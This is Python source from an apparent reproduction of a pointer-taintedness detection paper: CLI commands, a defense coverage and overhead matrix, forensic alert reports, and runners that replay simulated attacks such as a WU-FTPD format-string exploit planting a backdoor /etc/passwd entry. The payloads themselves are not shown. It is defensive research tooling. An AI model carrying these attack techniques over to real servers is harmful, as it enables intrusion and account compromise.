        raise SystemExit("campaign needs exactly one of FILE or --builtin")
    session = Session(options=ExecOptions(
        engine=args.engine,
        use_caches=args.caches,
        metrics=bool(args.metrics) or None,
        trace_out=args.trace_out,
        trace_events=args.trace_events,
        taint_labels=args.taint_labels,
        workers=args.workers,
        superblocks=not args.no_superblocks,
    ))
    kwargs = dict(
        seed=args.seed,
        trials=args.trials,
        recovery=args.recovery,
        kinds=tuple(args.kind) if args.kind else FAULT_KINDS,
    )
    if args.legacy_restore:
        kwargs["delta_restore"] = False
        kwargs["fast_triggers"] = False
    try:
        if args.builtin is not None:
            result = session.run_campaign(builtin=args.builtin, **kwargs)
        else:
            with open(args.file, "r", encoding="latin-1") as handle:
                source = handle.read()
            result = session.run_campaign(
                source,
                name=args.file,
                stdin=_read_stdin(args),
                argv=tuple(args.arg),
                **kwargs,
            )
    except (KeyError, ValueError) as exc:
        raise SystemExit(str(exc)) from None
    out.write(render_campaign_report(result) + "\n")
    if args.metrics and session.metrics is not None:
        out.write(session.metrics.render() + "\n")
    if args.json_path:
        _write_json(args.json_path, result.to_json())
    if args.smoke:
        counts = result.counts
        problems = []
        if sum(counts.values()) != args.trials:
            problems.append(
                f"classified {sum(counts.values())}/{args.trials} trials"
            )
        if any(r.outcome not in OUTCOMES for r in result.records):
            problems.append("trial outside the outcome taxonomy")
        if counts["detected"] < 1:
            problems.append("no trial was detected")
        if problems:
            out.write("SMOKE FAIL: " + "; ".join(problems) + "\n")
            return 1
        out.write("SMOKE OK\n")
    return 0


def _command_matrix(args: argparse.Namespace, out=sys.stdout) -> int:
    from .evalx.defense_matrix import (
        matrix_summary,
        run_defense_matrix,
        run_defense_overhead,
        report_defense_matrix,
    )

    matrix = run_defense_matrix(workers=args.workers)
    overhead_rows = None if args.no_overhead else run_defense_overhead()
    out.write(
        report_defense_matrix(
            overhead=not args.no_overhead,
            matrix=matrix,
            overhead_rows=overhead_rows,
        )
        + "\n"
    )
    if args.json_path:
        summary = matrix_summary(matrix)
        stats = dict(summary, rows=matrix)
        if overhead_rows is not None:
            stats["overhead"] = overhead_rows
        payload = validate_result_json(
            {
                "kind": "experiment",
                "name": "matrix",
                "detected": summary["detected"]["taintedness"] > 0,
                "stats": stats,
                "metrics": {},
            }
        )
        _write_json(args.json_path, payload)
    return 0


def _command_trace(args: argparse.Namespace, out=sys.stdout) -> int:
    try:
        records = list(read_trace(args.file))
    except (OSError, ValueError) as exc:
        raise SystemExit(str(exc)) from None
    if args.summary:
        counts = summarize_trace(records)
        out.write(f"{args.file}: {len(records)} records\n")
        for name in sorted(counts):
            out.write(f"  {name:<20} {counts[name]:>10,}\n")
        return 0
    pc = int(args.pc, 0) if args.pc is not None else None
    events = args.event if args.event else "all"
    try:
        rendered = render_trace(
            records, events=events, pc=pc, limit=args.limit
        )
    except ValueError as exc:
        raise SystemExit(str(exc)) from None
    out.write(rendered + "\n")
    return 0


def _command_report(args: argparse.Namespace, out=sys.stdout) -> int:
    names = sorted(REPORTS) if args.name == "all" else [args.name]
    for i, name in enumerate(names):
        if i:
            out.write("\n\n")
        out.write(REPORTS[name](workers=args.workers) + "\n")
    return 0


def _command_serve(args: argparse.Namespace, out=sys.stdout) -> int:
    import asyncio

    from .serve import ReproServer

    server = ReproServer(
        host=args.host,
        port=args.port,
        unix_socket=args.unix_socket,
        workers=args.workers,
        queue_capacity=args.queue_capacity,
        max_retries=args.max_retries,
        backoff_s=args.backoff,
        breaker_threshold=args.breaker_threshold,
        breaker_cooldown_s=args.breaker_cooldown,
    )

    def ready(s: ReproServer) -> None:
        out.write(
            f"repro serve: listening on {s.address} "
            f"({s.pool.workers} workers, queue {s.queue.capacity})\n"
        )
        if hasattr(out, "flush"):
            out.flush()

    async def _serve() -> int:
        loop = asyncio.get_running_loop()
        # SIGTERM/SIGINT mean *drain*, not die: finish in-flight jobs,
        # reject new ones, then exit 0.
        for signum in (signal.SIGINT, signal.SIGTERM):
            loop.add_signal_handler(signum, server.begin_drain)
        return await server.run(ready=ready)

    return asyncio.run(_serve())


#: Long-running commands that honor SIGINT/SIGTERM with a clean 130 exit.
_INTERRUPTIBLE = ("campaign", "report", "matrix")


def _run_interruptible(command: str, fn: Callable[[], int]) -> int:
    """Run ``fn`` with SIGTERM mapped to ``KeyboardInterrupt``.

    Interrupting a fanned-out command cancels the worker pool promptly
    (``fan_out`` shuts its executor down with ``cancel_futures=True`` on
    ``KeyboardInterrupt``), reports partial progress on stderr, and exits
    with the conventional 130 instead of a traceback.
    """
    def _on_term(signum, frame):  # pragma: no cover - exercised via subprocess
        raise KeyboardInterrupt

    previous = None
    try:
        previous = signal.signal(signal.SIGTERM, _on_term)
    except ValueError:
        pass  # not the main thread (e.g. tests driving main() directly)
    started = perf_counter()
    try:
        return fn()
    except KeyboardInterrupt:
        elapsed = perf_counter() - started
        sys.stderr.write(
            f"repro {command}: interrupted after {elapsed:.1f}s -- worker "
            f"pool cancelled, partial progress discarded\n"
        )
        return 130
    finally:
        if previous is not None:
            signal.signal(signal.SIGTERM, previous)


def _dispatch(args: argparse.Namespace, out) -> int:
    if args.command == "run":
        return _command_run(args, raw_asm=False, out=out)
    if args.command == "asm":
        return _command_run(args, raw_asm=True, out=out)
    if args.command == "forensics":
        return _command_forensics(args, out=out)
    if args.command == "disasm":
        return _command_disasm(args, out=out)
    if args.command == "report":
        return _run_interruptible(
            "report", lambda: _command_report(args, out=out)
        )
    if args.command == "campaign":
        return _run_interruptible(
            "campaign", lambda: _command_campaign(args, out=out)
        )
    if args.command == "matrix":
        return _run_interruptible(
            "matrix", lambda: _command_matrix(args, out=out)
        )
    if args.command == "trace":
        return _command_trace(args, out=out)
    if args.command == "serve":
        return _command_serve(args, out=out)
    raise SystemExit(f"unknown command {args.command!r}")


def main(argv: Optional[Sequence[str]] = None, out=sys.stdout) -> int:
    """CLI entry point; returns the process exit code.

    Failures are structured even in machine-readable mode: when a command
    raises and ``--json PATH`` was given, PATH receives a schema-valid
    ``{"kind": "error", "error": {"type", "message"}}`` envelope instead
    of nothing, and stderr gets a one-line diagnosis instead of a
    traceback.
    """
    args = _build_parser().parse_args(argv)
    try:
        return _dispatch(args, out)
    except SystemExit:
        raise
    except KeyboardInterrupt:
        raise
    except Exception as exc:  # noqa: BLE001 -- the envelope is the contract
        json_path = getattr(args, "json_path", None)
        if json_path:
            payload = validate_result_json({
                "kind": "error",
                "reason": "cli",
                "error": {
                    "type": type(exc).__name__,
                    "message": str(exc) or type(exc).__name__,
                },
            })
            _write_json(json_path, payload)
        sys.stderr.write(f"repro: {type(exc).__name__}: {exc}\n")
        return 1


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
