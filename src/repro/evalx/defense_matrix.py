"""Defense coverage x overhead matrix (ROADMAP item 4).

The paper's central comparison claim (section 6): control-flow defenses
-- shadow stacks, pointer authentication -- stop *control-data* attacks
but miss attacks that corrupt security-critical **non-control** data,
while pointer-taintedness detection catches both.  This module replays
every attack scenario under every registered defense and tabulates who
catches what:

* ``taintedness`` -- the paper's detector (inline tainted-dereference
  check under :func:`~repro.defenses.policy.PointerTaintPolicy`);
* ``shadow-stack`` -- call/return pairing over ``InstructionRetired``;
* ``pac`` -- keyed-MAC pointer signing over compiler-emitted sites.

The comparators run under an *unprotected* machine policy (their
:meth:`~repro.defenses.base.Detector.default_policy`), so a comparator
row shows what that mechanism alone would catch.

The overhead half of the matrix runs a benign call-heavy workload under
each defense and reports per-defense check counts (deterministic) and
wall-clock overhead versus an undefended run (measured, machine-local).

Rows are independent, so ``run_defense_matrix`` takes the same
``workers`` knob as the other evalx runners and fans per-scenario units
(:func:`_unit_defense_matrix`) out to the :mod:`repro.parallel` pool.
"""

from __future__ import annotations

import time
from typing import Dict, List, Optional

from ..attacks.replay import run_minic
from ..defenses.policy import NullPolicy
from ..defenses.registry import DEFENSES
from ..obs import MetricsRegistry
from .reporting import check, render_table

__all__ = [
    "DEFENSE_NAMES",
    "run_defense_matrix",
    "run_defense_overhead",
    "report_defense_matrix",
    "matrix_summary",
]

#: Column order of the matrix (the registry's three built-ins).
DEFENSE_NAMES = ("taintedness", "shadow-stack", "pac")

#: Benign, call-heavy workload for the overhead half: deep enough call
#: traffic that the shadow stack and PAC sites are exercised on every
#: iteration, with no tainted input at all.
_OVERHEAD_SOURCE = """
int work(int x) {
    int i;
    int s;
    s = x;
    for (i = 0; i < 20; i = i + 1) {
        s = s + i;
    }
    return s;
}

int main(void) {
    int i;
    int acc;
    acc = 0;
    for (i = 0; i < 150; i = i + 1) {
        acc = acc + work(i);
    }
    return 0;
}
"""


def _unit_defense_matrix(
    index: int, registry: Optional[MetricsRegistry] = None
) -> Dict[str, object]:
    """One matrix row: one attack scenario under every registered defense.

    The payload is plain strings/bools/ints so pool workers can ship it
    home; ``defense.*`` counters land in the worker-local registry and
    are absorbed in row order like every other experiment unit.
    """
    from .experiments import _harvest, all_attack_scenarios

    scenario = all_attack_scenarios()[index]
    row: Dict[str, object] = {
        "scenario": scenario.name,
        "category": scenario.category,
        "alerts": {},
        "checks": {},
    }
    for name in DEFENSE_NAMES:
        detector = DEFENSES.create(name)
        # policy=None: the machine runs under the defense's default
        # policy (PointerTaintPolicy for taintedness, NullPolicy for the
        # comparators, so the inline check cannot preempt them).
        result = scenario.run_attack(None, defense=detector)
        _harvest(registry, result)
        row[name] = result.detected
        row["alerts"][name] = (
            str(result.alert) if result.alert is not None else None
        )
        row["checks"][name] = detector.checks
        if registry is not None:
            registry.counter(f"defense.{name}.runs").inc()
            if result.detected:
                registry.counter(f"defense.{name}.detections").inc()
    unprotected = scenario.run_attack(NullPolicy())
    row["compromise"] = scenario.attack_succeeded(unprotected)
    return row


def run_defense_matrix(
    workers: int = 1, registry: Optional[MetricsRegistry] = None
) -> List[Dict[str, object]]:
    """Every attack scenario x every registered defense."""
    from .experiments import _fan_units, _parallel, all_attack_scenarios

    count = len(all_attack_scenarios())
    if _parallel(workers):
        return _fan_units("defense_matrix", count, registry, workers)
    return [_unit_defense_matrix(i, registry) for i in range(count)]


def run_defense_overhead(repeats: int = 3) -> List[Dict[str, object]]:
    """Benign-workload overhead of each defense versus an undefended run.

    Returns one row per defense (plus the ``"none"`` baseline first):
    retired instruction count (identical across defenses -- the machine's
    architectural behavior never depends on an attached observer), hook
    checks performed, and best-of-``repeats`` wall seconds with the
    overhead percentage against the baseline.
    """
    rows: List[Dict[str, object]] = []
    baseline_wall: Optional[float] = None
    for name in (None, *DEFENSE_NAMES):
        best_wall = float("inf")
        instructions = 0
        checks = 0
        for _ in range(repeats):
            detector = DEFENSES.create(name) if name is not None else None
            start = time.perf_counter()
            result = run_minic(
                _OVERHEAD_SOURCE,
                NullPolicy() if detector is None else None,
                defense=detector,
            )
            wall = time.perf_counter() - start
            if result.outcome != "exit":
                raise RuntimeError(
                    f"overhead workload must exit cleanly, got "
                    f"{result.describe()} under {name or 'none'}"
                )
            best_wall = min(best_wall, wall)
            instructions = result.sim.stats.instructions
            checks = detector.checks if detector is not None else 0
        if baseline_wall is None:
            baseline_wall = best_wall
        rows.append(
            {
                "defense": name or "none",
                "instructions": instructions,
                "checks": checks,
                "wall_s": round(best_wall, 6),
                "overhead_pct": round(
                    (best_wall - baseline_wall) / baseline_wall * 100.0, 2
                ),
            }
        )
    return rows


def matrix_summary(matrix: List[Dict[str, object]]) -> Dict[str, object]:
    """Aggregate counts the facade and CI smoke assertions read.

    ``taintedness_only`` counts the scenarios pointer taintedness detects
    that *both* comparators miss -- the paper's non-control-data coverage
    argument in one number.
    """
    summary: Dict[str, object] = {
        "scenarios": len(matrix),
        "detected": {
            name: sum(1 for row in matrix if row[name])
            for name in DEFENSE_NAMES
        },
    }
    summary["taintedness_only"] = sum(
        1
        for row in matrix
        if row["taintedness"] and not row["shadow-stack"] and not row["pac"]
    )
    summary["non_control_caught_by_taintedness"] = sum(
        1
        for row in matrix
        if row["category"] == "non-control-data" and row["taintedness"]
    )
    return summary


def report_defense_matrix(
    workers: int = 1,
    overhead: bool = True,
    matrix: Optional[List[Dict[str, object]]] = None,
    overhead_rows: Optional[List[Dict[str, object]]] = None,
) -> str:
    """Paper-style rendering: coverage table plus the overhead rows.

    Precomputed ``matrix``/``overhead_rows`` are rendered as-is (the CLI
    computes once and renders + serializes from the same data).
    """
    if matrix is None:
        matrix = run_defense_matrix(workers=workers)
    rows = [
        (
            row["scenario"],
            row["category"],
            check(bool(row["taintedness"])),
            check(bool(row["shadow-stack"])),
            check(bool(row["pac"])),
            "yes" if row["compromise"] else "no",
        )
        for row in matrix
    ]
    table = render_table(
        [
            "attack",
            "class",
            "taintedness",
            "shadow-stack",
            "pac",
            "compromise if unprotected",
        ],
        rows,
        title="Defense matrix: pointer taintedness vs control-flow defenses",
    )
    summary = matrix_summary(matrix)
    lines = [
        table,
        (
            "detected by taintedness only (both comparators miss): "
            f"{summary['taintedness_only']} of {summary['scenarios']}"
        ),
    ]
    if overhead:
        orows = (
            overhead_rows if overhead_rows is not None
            else run_defense_overhead()
        )
        lines.append(
            render_table(
                ["defense", "instructions", "checks", "wall s", "overhead"],
                [
                    (
                        r["defense"],
                        r["instructions"],
                        r["checks"],
                        f"{r['wall_s']:.4f}",
                        f"{r['overhead_pct']:+.1f}%",
                    )
                    for r in orows
                ],
                title="Benign-workload overhead per defense",
            )
        )
    return "\n".join(lines)
