"""Post-mortem forensics: explain a detection alert to a human.

When the detector stops a process, the interesting questions are the ones
the paper answers in its attack walkthroughs: *which* instruction tripped,
*what* pointer value it tried to dereference, *where* that instruction sits
in the program, what the machine was doing just before, and what the
tainted bytes look like in memory.  :func:`explain` assembles that report
from a finished :class:`~repro.attacks.replay.RunResult`.
"""

from __future__ import annotations

from typing import List

from ..attacks.replay import RunResult
from ..isa.instructions import REGISTER_NAMES
from .reporting import render_kv


def _printable(byte: int) -> str:
    return chr(byte) if 32 <= byte < 127 else "."


def hexdump(memory, address: int, length: int = 32) -> List[str]:
    """Hexdump with taint marks: tainted bytes are printed UPPERCASE and
    flagged in the side gutter."""
    lines = []
    start = address & ~0xF
    end = address + length
    cursor = start
    while cursor < end:
        data = memory.read_bytes(cursor, 16)
        taint = memory.read_taint(cursor, 16)
        cells = []
        chars = []
        for i, byte in enumerate(data):
            text = f"{byte:02x}"
            cells.append(text.upper() if taint[i] else text)
            chars.append(_printable(byte))
        gutter = "".join("T" if flag else "." for flag in taint)
        lines.append(
            f"  {cursor:08x}  {' '.join(cells)}  |{''.join(chars)}|  {gutter}"
        )
        cursor += 16
    return lines


def recent_trace(result: RunResult, count: int = 8) -> List[str]:
    """Disassembled tail of the executed-PC ring buffer.

    Prefers the replay layer's event-recorded trace (``result.trace``,
    fed by ``InstructionRetired`` subscriptions) and falls back to the
    machine's always-on ``recent_pcs`` deque.
    """
    sim = result.sim
    if sim is None:
        return []
    trace = getattr(result, "trace", None)
    pcs = list(trace if trace else sim.recent_pcs)
    lines = []
    for pc in pcs[-count:]:
        try:
            instr = sim.executable.instruction_at(pc)
            text = instr.text
        except (IndexError, KeyError):
            text = "<outside text segment>"
        source = sim.executable.source_map.get(pc, "")
        suffix = f"    ; {source}" if source and source != text else ""
        lines.append(f"  {pc:08x}: {text}{suffix}")
    return lines


def tainted_registers(result: RunResult) -> List[str]:
    """Registers holding tainted bytes at the stop, with values."""
    sim = result.sim
    if sim is None:
        return []
    rows = []
    for number in sim.regs.tainted_registers():
        value, taint = sim.regs.read(number)
        rows.append(
            f"  ${REGISTER_NAMES[number]} (${number}) = {value:#010x} "
            f"taint={taint:#x}"
        )
    return rows


def provenance_report(result: RunResult) -> str:
    """Attribute a detected attack to the external input that caused it.

    Renders the alert's provenance chain -- which syscall (or argv/env
    entry) brought the tainting bytes in, and which byte range of that
    input the dereferenced pointer derives from.  Provenance is only
    recorded in label mode (``taint_labels=True``); in bit mode this
    reports how to enable it.
    """
    alert = result.alert
    if alert is None:
        return "no alert: nothing to attribute"
    if not alert.provenance:
        return (
            "no provenance labels recorded; re-run in label mode "
            "(Session(taint_labels=True) or `repro forensics`) to "
            "attribute tainted bytes to their input"
        )
    parts = [
        f"pointer at pc={alert.pc:#x} "
        f"(value {alert.pointer_value:#010x}) tainted by:"
    ]
    for label in alert.provenance:
        lo, hi = label.offset_range
        parts.append(
            f"  - {label.describe()}"
            f"  [input bytes {lo}..{max(hi - 1, lo)}, "
            f"copied in at instruction {label.insn_index:,}]"
        )
    return "\n".join(parts)


def explain(result: RunResult, context_bytes: int = 32) -> str:
    """Produce a forensic report for a finished run.

    For detected attacks: the alert line in the paper's format, the
    enclosing symbol, the instruction trail, tainted registers, the
    provenance chain (label mode), and a taint-annotated hexdump around
    the dereferenced pointer.  For other outcomes: a compact summary.
    """
    parts: List[str] = []
    if not result.detected or result.alert is None or result.sim is None:
        parts.append(f"outcome: {result.describe()}")
        if result.kernel is not None and result.kernel.process.events:
            events = ", ".join(
                str(e) for e in result.kernel.process.events
            )
            parts.append(f"kernel events: {events}")
        if result.sim is not None:
            stats = result.sim.stats
            parts.append(
                f"executed {stats.instructions:,} instructions; "
                f"{stats.tainted_dereferences} tainted dereference(s) "
                "went unchecked"
            )
        return "\n".join(parts)

    alert = result.alert
    sim = result.sim
    symbol = sim.executable.symbol_at(alert.pc) or "?"
    parts.append("SECURITY ALERT — tainted pointer dereference")
    parts.append(
        render_kv(
            [
                ("instruction", f"{alert.pc:x}: {alert.disassembly}"),
                ("in function", symbol),
                ("dereference kind", alert.kind),
                ("pointer value", f"{alert.pointer_value:#010x}"),
                ("taint mask", f"{alert.taint_mask:#06b}"),
                ("source line", alert.detail or "-"),
                ("instructions executed", f"{sim.stats.instructions:,}"),
            ]
        )
    )
    if alert.provenance:
        parts.append("tainted by:")
        parts.extend(f"  {line}" for line in alert.describe_provenance())
    trail = recent_trace(result)
    if trail:
        parts.append("recent instructions:")
        parts.extend(trail)
    registers = tainted_registers(result)
    if registers:
        parts.append("tainted registers at stop:")
        parts.extend(registers)
    parts.append(
        f"memory near the dereferenced pointer ({alert.pointer_value:#x}), "
        "tainted bytes UPPERCASE:"
    )
    parts.extend(hexdump(sim.memory, alert.pointer_value, context_bytes))
    return "\n".join(parts)
