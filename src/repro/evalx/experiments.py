"""One runner per paper artifact (every table and figure).

Each ``run_*`` function returns structured data; each ``report_*`` renders
the same data the way the paper presents it.  The benchmark harness under
``benchmarks/`` calls these runners, and EXPERIMENTS.md records their
output against the paper's numbers.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence

from ..apps.ghttpd import ghttpd_scenario
from ..apps.nullhttpd import nullhttpd_scenario
from ..apps.spec import SPEC_WORKLOADS, SpecWorkload
from ..apps.synthetic import (
    all_synthetic_scenarios,
    exp1_scenario,
    exp2_scenario,
    exp3_scenario,
    leak_scenario,
    vuln_a_scenario,
    vuln_b_scenario,
)
from ..apps.traceroute import traceroute_scenario
from ..apps.wuftpd import (
    BACKDOOR_PASSWD_ENTRY,
    site_exec_payload,
    uid_address,
    wuftpd_scenario,
)
from ..attacks.replay import RunResult, run_minic
from ..attacks.scenarios import AttackScenario
from ..core.events import TaintedDereference
from ..core.policy import (
    ControlDataPolicy,
    DetectionPolicy,
    NullPolicy,
    PointerTaintPolicy,
)
from ..libc.build import build_program
from ..obs import MetricsRegistry, Observer
from .cert import figure1_rows, memory_corruption_share
from .reporting import check, render_kv, render_table


def _harvest(registry: Optional[MetricsRegistry], result: RunResult) -> None:
    """Fold one run's statistics into an experiment's registry.

    Uses the same :class:`~repro.obs.profile.Observer` harvest (and thus
    the same metric names -- ``run.instructions``, ``run.alerts``,
    ``opcode.*``, ...) every other harness reports through, so Table 2/3
    numbers are directly comparable with campaign and CLI metrics.
    """
    if registry is not None and result.sim is not None:
        Observer(registry).harvest(result.sim, result.pstats)


def real_world_scenarios() -> List[AttackScenario]:
    """The four section 5.1.2 applications."""
    return [
        wuftpd_scenario(),
        nullhttpd_scenario(),
        ghttpd_scenario(),
        traceroute_scenario(),
    ]


def all_attack_scenarios() -> List[AttackScenario]:
    """Synthetic (Figure 2 + Table 4) plus real-world scenarios."""
    return all_synthetic_scenarios() + real_world_scenarios()


# ---------------------------------------------------------------------------
# Figure 1
# ---------------------------------------------------------------------------

def run_fig1() -> Dict[str, object]:
    rows = figure1_rows()
    return {
        "rows": rows,
        "memory_share": memory_corruption_share(),
    }


def report_fig1() -> str:
    data = run_fig1()
    table = render_table(
        ["vulnerability class", "advisories", "percent"],
        [(cat, count, f"{pct:.1f}%") for cat, count, pct in data["rows"]],
        title="Figure 1: CERT advisories 2000-2003 by vulnerability class",
    )
    share = data["memory_share"]
    return (
        f"{table}\n"
        f"memory-corruption share: {share:.1f}%  (paper: 67%)"
    )


# ---------------------------------------------------------------------------
# Figure 2 / section 5.1.1: synthetic detections
# ---------------------------------------------------------------------------

@dataclass
class DetectionRecord:
    """Outcome of one scenario under one policy."""

    scenario: str
    category: str
    policy: str
    outcome: str
    alert: str = ""
    pointer: Optional[int] = None

    @property
    def detected(self) -> bool:
        return self.outcome == "alert"


def run_synthetic_detections(
    registry: Optional[MetricsRegistry] = None,
) -> List[DetectionRecord]:
    """Replay the three synthetic attacks, observing detections through the
    machine's event bus (a ``TaintedDereference`` event fires at the moment
    the detector marks the instruction malicious)."""
    policy = PointerTaintPolicy()
    records = []
    for scenario in (exp1_scenario(), exp2_scenario(), exp3_scenario()):
        result = scenario.run_attack(
            policy, record_events=(TaintedDereference,)
        )
        _harvest(registry, result)
        detections = (
            result.events.of(TaintedDereference) if result.events else []
        )
        alert = detections[0].alert if detections else result.alert
        records.append(
            DetectionRecord(
                scenario=scenario.name,
                category=scenario.category,
                policy=policy.name,
                outcome=result.outcome,
                alert=str(alert) if alert else "",
                pointer=alert.pointer_value if alert else None,
            )
        )
    return records


def report_fig2() -> str:
    rows = [
        (r.scenario, r.category, r.outcome.upper(), r.alert)
        for r in run_synthetic_detections()
    ]
    return render_table(
        ["program", "attack class", "outcome", "alert"],
        rows,
        title="Figure 2 / section 5.1.1: synthetic attack detection",
    )


# ---------------------------------------------------------------------------
# Table 2: the WU-FTPD session transcript
# ---------------------------------------------------------------------------

def run_table2(
    registry: Optional[MetricsRegistry] = None,
) -> Dict[str, object]:
    scenario = wuftpd_scenario()
    result = scenario.run_attack(PointerTaintPolicy())
    _harvest(registry, result)
    unprotected = scenario.run_attack(NullPolicy())
    passwd_after = (
        unprotected.kernel.fs.read_file("/etc/passwd")
        if unprotected.kernel
        else b""
    )
    return {
        "result": result,
        "unprotected": unprotected,
        "uid_address": uid_address(),
        "payload": site_exec_payload(),
        "passwd_after": passwd_after,
    }


def report_table2() -> str:
    data = run_table2()
    result: RunResult = data["result"]
    unprotected: RunResult = data["unprotected"]
    payload = data["payload"].decode("latin-1").rstrip("\n")
    command, argument = payload[:10], payload[10:]
    printable = command + "".join(
        ch if 32 < ord(ch) < 127 else f"\\x{ord(ch):02x}" for ch in argument
    )
    rows = [
        ("FTP Server", "220 FTP server (Version wu-2.6.0(60) "
                       "Mon Nov 29 10:37:55 CST 2004) ready."),
        ("FTP Client", "user user1"),
        ("FTP Server", "331 Password required for user1."),
        ("FTP Client", "pass xxxxxxx (the correct password)"),
        ("FTP Client", printable.lower()),
        ("Alert", str(result.alert) if result.alert else result.describe()),
    ]
    table = render_table(
        ["party", "message"], rows,
        title="Table 2: attacking WU-FTPD on the proposed architecture",
    )
    extra = render_kv(
        [
            ("uid word address", hex(data["uid_address"])),
            ("detected (pointer-taintedness)", result.detected),
            ("unprotected run outcome", unprotected.describe()),
            ("unprotected /etc/passwd", data["passwd_after"].decode("latin-1")),
            ("backdoor entry planted", BACKDOOR_PASSWD_ENTRY in
             data["passwd_after"].decode("latin-1")),
        ],
        title="verdicts:",
    )
    return f"{table}\n{extra}"


# ---------------------------------------------------------------------------
# Section 5.1.2: real-world application attacks under all policies
# ---------------------------------------------------------------------------

def run_real_world(policies: Optional[Sequence[DetectionPolicy]] = None
                   ) -> List[DetectionRecord]:
    if policies is None:
        policies = (PointerTaintPolicy(), ControlDataPolicy(), NullPolicy())
    records = []
    for scenario in real_world_scenarios():
        for policy in policies:
            result = scenario.run_attack(policy)
            records.append(
                DetectionRecord(
                    scenario=scenario.name,
                    category=scenario.category,
                    policy=policy.name,
                    outcome=result.outcome,
                    alert=str(result.alert) if result.alert else
                    result.describe(),
                )
            )
    return records


# ---------------------------------------------------------------------------
# Table 3: false positives on the SPEC-like workloads
# ---------------------------------------------------------------------------

@dataclass
class FalsePositiveRow:
    """One Table 3 column (we print workloads as rows)."""

    name: str
    program_bytes: int
    input_bytes: int
    instructions: int
    alerts: int
    stdout: str = ""


def run_table3(
    workloads: Optional[Sequence[SpecWorkload]] = None,
    policy: Optional[DetectionPolicy] = None,
    registry: Optional[MetricsRegistry] = None,
) -> List[FalsePositiveRow]:
    workloads = workloads if workloads is not None else SPEC_WORKLOADS
    policy = policy if policy is not None else PointerTaintPolicy()
    rows = []
    for workload in workloads:
        exe = build_program(workload.source)
        stdin = workload.make_input()
        result = run_minic(workload.source, policy, stdin=stdin)
        _harvest(registry, result)
        if result.outcome != "exit":
            raise AssertionError(
                f"benign workload {workload.name} did not exit cleanly: "
                f"{result.describe()}"
            )
        assert result.sim is not None
        program_bytes = 4 * len(exe.text_words) + len(exe.data)
        rows.append(
            FalsePositiveRow(
                name=workload.name,
                program_bytes=program_bytes,
                input_bytes=len(stdin),
                instructions=result.sim.stats.instructions,
                alerts=result.sim.stats.alerts,
                stdout=result.stdout.strip(),
            )
        )
    return rows


def report_table3() -> str:
    rows = run_table3()
    total = FalsePositiveRow(
        name="Total",
        program_bytes=sum(r.program_bytes for r in rows),
        input_bytes=sum(r.input_bytes for r in rows),
        instructions=sum(r.instructions for r in rows),
        alerts=sum(r.alerts for r in rows),
    )
    table = render_table(
        ["program", "program size", "input bytes", "instructions", "alerts"],
        [
            (r.name, f"{r.program_bytes / 1024:.0f}KB", f"{r.input_bytes}",
             f"{r.instructions:,}", r.alerts)
            for r in [*rows, total]
        ],
        title="Table 3: false-positive test (SPEC-2000-like workloads)",
    )
    return f"{table}\nalerts raised: {total.alerts}  (paper: 0)"


# ---------------------------------------------------------------------------
# Table 4: false-negative scenarios
# ---------------------------------------------------------------------------

@dataclass
class FalseNegativeRow:
    scenario: str
    detected: bool
    damage: str


def run_table4() -> List[FalseNegativeRow]:
    policy = PointerTaintPolicy()
    rows = []

    a = vuln_a_scenario()
    result = a.run_attack(policy)
    rows.append(
        FalseNegativeRow(
            scenario="(A) integer overflow -> negative array index",
            detected=result.detected,
            damage="memory below array overwritten"
            if "corrupted" in result.stdout else "none",
        )
    )

    b = vuln_b_scenario()
    result = b.run_attack(policy)
    rows.append(
        FalseNegativeRow(
            scenario="(B) overflow corrupts authentication flag",
            detected=result.detected,
            damage="access granted without valid password"
            if "access granted" in result.stdout else "none",
        )
    )

    c = leak_scenario()
    result = c.run_attack(policy)
    leaked = "1337c0de" in result.stdout
    rows.append(
        FalseNegativeRow(
            scenario="(C) format string information leak (%x)",
            detected=result.detected,
            damage="secret key leaked to output" if leaked else "none",
        )
    )
    return rows


def report_table4() -> str:
    rows = run_table4()
    table = render_table(
        ["scenario", "detected", "damage done"],
        [(r.scenario, "yes" if r.detected else "NO (escapes)", r.damage)
         for r in rows],
        title="Table 4: false-negative scenarios (section 5.3)",
    )
    return table


# ---------------------------------------------------------------------------
# Coverage matrix: every attack x every policy (the section 5.1 claim)
# ---------------------------------------------------------------------------

def run_coverage_matrix() -> List[Dict[str, object]]:
    policies = (PointerTaintPolicy(), ControlDataPolicy(), NullPolicy())
    matrix = []
    for scenario in all_attack_scenarios():
        row: Dict[str, object] = {
            "scenario": scenario.name,
            "category": scenario.category,
        }
        for policy in policies:
            result = scenario.run_attack(policy)
            row[policy.name] = result.detected
            if policy.name == "unprotected":
                row["compromise"] = scenario.attack_succeeded(result)
        matrix.append(row)
    return matrix


def report_coverage_matrix() -> str:
    matrix = run_coverage_matrix()
    rows = [
        (
            row["scenario"],
            row["category"],
            check(bool(row["pointer-taintedness"])),
            check(bool(row["control-data-only"])),
            "yes" if row["compromise"] else "no",
        )
        for row in matrix
    ]
    return render_table(
        [
            "attack",
            "class",
            "pointer-taintedness",
            "control-data-only",
            "compromise if unprotected",
        ],
        rows,
        title="Security coverage: this paper vs control-flow-integrity baseline",
    )


# ---------------------------------------------------------------------------
# Section 5.4: architectural overhead
# ---------------------------------------------------------------------------

@dataclass
class OverheadRow:
    name: str
    instructions_tracking: int
    instructions_no_tracking: int
    wallclock_tracking: float
    wallclock_no_tracking: float
    input_bytes_tainted: int
    software_overhead_pct: float


def run_sec54(
    workloads: Optional[Sequence[SpecWorkload]] = None,
) -> List[OverheadRow]:
    """Taint tracking on vs off.

    The paper argues the *hardware* adds no cycles because taint propagation
    runs in parallel with the ALU; the measurable check is that the
    instruction stream is identical with tracking on and off.  The paper's
    only software cost is the kernel tainting each input byte (estimated at
    one instruction per byte: 0.002%..0.2% on SPEC).
    """
    workloads = workloads if workloads is not None else SPEC_WORKLOADS[:3]
    rows = []
    for workload in workloads:
        stdin = workload.make_input()

        start = time.perf_counter()
        tracked = run_minic(
            workload.source, PointerTaintPolicy(), stdin=stdin
        )
        tracked_time = time.perf_counter() - start

        start = time.perf_counter()
        untracked = run_minic(
            workload.source,
            NullPolicy(track_taint=False),
            stdin=stdin,
            taint_inputs=False,
        )
        untracked_time = time.perf_counter() - start

        assert tracked.sim is not None and untracked.sim is not None
        tainted = tracked.sim.stats.input_bytes_tainted
        rows.append(
            OverheadRow(
                name=workload.name,
                instructions_tracking=tracked.sim.stats.instructions,
                instructions_no_tracking=untracked.sim.stats.instructions,
                wallclock_tracking=tracked_time,
